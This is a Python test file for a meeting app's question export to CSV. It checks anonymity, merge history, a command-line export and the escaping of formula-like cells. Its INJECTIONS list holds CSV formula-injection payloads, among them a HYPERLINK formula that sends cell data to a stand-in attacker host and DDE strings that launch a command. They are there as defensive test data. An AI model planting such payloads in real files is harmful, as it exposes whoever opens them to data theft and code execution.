"""The questions CSV: everything the record needs, anonymity kept, no formulas."""

from __future__ import annotations

import csv
import io

from click.testing import CliRunner

from server.cli import main
from server.question_export import export_questions, neutralise
from tests.test_cli import DEMO, env  # noqa: F401  (the CLI's environment fixture)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 is a fine question?",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def _csv(db, session_ref: str, **options) -> list[dict[str, str]]:
    out = io.StringIO()
    await export_questions(db, session_ref, out, **options)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


async def test_the_csv_holds_the_questions_with_their_history(connect, world, db):
    chair = await connect("chair")
    france = await connect("france")
    peru = await connect("peru")
    usa = await connect("usa")
    ids = {}
    for who, client, text, anonymous in (
        ("france", france, "What makes a State attractive for funding?", True),
        ("peru", peru, "What makes a country attractive to donors?", False),
        ("usa", usa, INJECTIONS[0], False),
    ):
        await client.command("submit_question", text=text, language="en", is_anonymous=anonymous)
        while True:
            event = await chair.next_event("question_updated")
            if "original_text" in event["data"]["question"]:
                ids[who] = event["data"]["question"]["id"]
                break
    for question_id in ids.values():
        await chair.command("approve_question", question_id=question_id)
    await usa.command("vote_question", question_id=ids["france"])
    await peru.command("vote_question", question_id=ids["peru"])
    await usa.command("vote_question", question_id=ids["peru"])
    await chair.command("merge_questions", question_id=ids["peru"], into_id=ids["france"])
    await chair.command(
        "edit_question", question_id=ids["france"], text="What makes a State or an organisation attractive for funding?"
    )
    await chair.command("put_question_on_air", question_id=ids["france"])

    rows = {int(row["question_id"]): row for row in await _csv(db, str(world.session_id))}
    kept = rows[ids["france"]]
    assert kept["state"] == "on_air" and kept["votes"] == "2"
    assert kept["text"].startswith("What makes a State or an organisation")
    assert kept["original_text"] == "What makes a State attractive for funding?"
    # Anonymous: no author unless asked for.
    assert kept["author"] == "" and kept["delegation"] == "" and kept["is_anonymous"] == "true"
    merged = rows[ids["peru"]]
    assert merged["state"] == "merged" and merged["merged_into"] == str(ids["france"])
    assert merged["author"] == "Delegate of Peru" and merged["delegation"] == "Peru"
    assert rows[ids["usa"]]["text"] == "'" + INJECTIONS[0]
    assert all(row["submitted_at"] and row["approved_at"] for row in rows.values())

    named = {int(row["question_id"]): row for row in await _csv(db, "test-event/panel", with_authors=True)}
    assert named[ids["france"]]["author"] == "Delegate of France"


def test_cells_that_start_like_a_formula_stay_text():
    for text in INJECTIONS:
        assert neutralise(text) == "'" + text
    assert neutralise("\tTab first") == "'\tTab first"
    assert neutralise("How can funding last?") == "How can funding last?"
    assert neutralise(None) == "" and neutralise(3) == "3"


def test_the_cli_exports_the_demo_questions(env):  # noqa: F811
    runner = CliRunner()
    assert runner.invoke(main, ["load", str(DEMO)]).exit_code == 0
    result = runner.invoke(main, ["export", "questions", "coop-assist-2020/panel", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert len(rows) == 5 and {row["state"] for row in rows} == {"pending"}
    anonymous = next(row for row in rows if row["is_anonymous"] == "true")
    assert anonymous["author"] == "" and anonymous["language"] == "fr"
    assert anonymous["topic"].startswith("Coopération régionale") or anonymous["topic"].startswith("Regional")
    named = runner.invoke(main, ["export", "questions", "coop-assist-2020/panel", "--with-authors"])
    assert "Fatou Sarr" in named.output and "Fatou Sarr" not in result.output
    missing = runner.invoke(main, ["export", "questions", "no-such-session"])
    assert missing.exit_code == 1 and "no session" in missing.output
